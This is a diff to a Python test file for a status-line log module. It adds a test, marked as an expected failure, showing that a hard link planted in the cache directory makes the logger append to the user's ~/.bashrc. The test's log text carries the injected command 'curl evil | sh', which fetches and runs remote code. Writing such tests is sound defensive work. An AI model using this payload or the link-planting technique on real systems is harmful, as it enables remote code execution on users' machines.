@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import os
 
+import pytest
+
 from statusline import log
 
 
@@ -32,4 +34,18 @@ def test_a_planted_log_link_is_not_followed(tmp_path):
     (cache / "costline.log").symlink_to(victim)
     log.write(str(cache), "a problem")
     log.exception(str(cache), "where", ValueError("boom"))
+    assert victim.read_text() == "precious\n"
+
+
+@pytest.mark.xfail(strict=True, reason="review: open_private takes a hard link to the user's file")
+def test_a_planted_hard_link_is_not_appended_to(tmp_path):
+    """`costline.log` planted as a hard link (while the cache dir was open) to the user's
+    ~/.bashrc: a regular file of the user's, so open_private takes it and the log line, with
+    text from the payload or an exception, lands in the shell's startup file."""
+    victim = tmp_path / "bashrc"
+    victim.write_text("precious\n")
+    cache = tmp_path / "cache"
+    cache.mkdir(mode=0o700)
+    os.link(victim, cache / "costline.log")
+    log.write(str(cache), "bad payload; curl evil | sh")
     assert victim.read_text() == "precious\n"
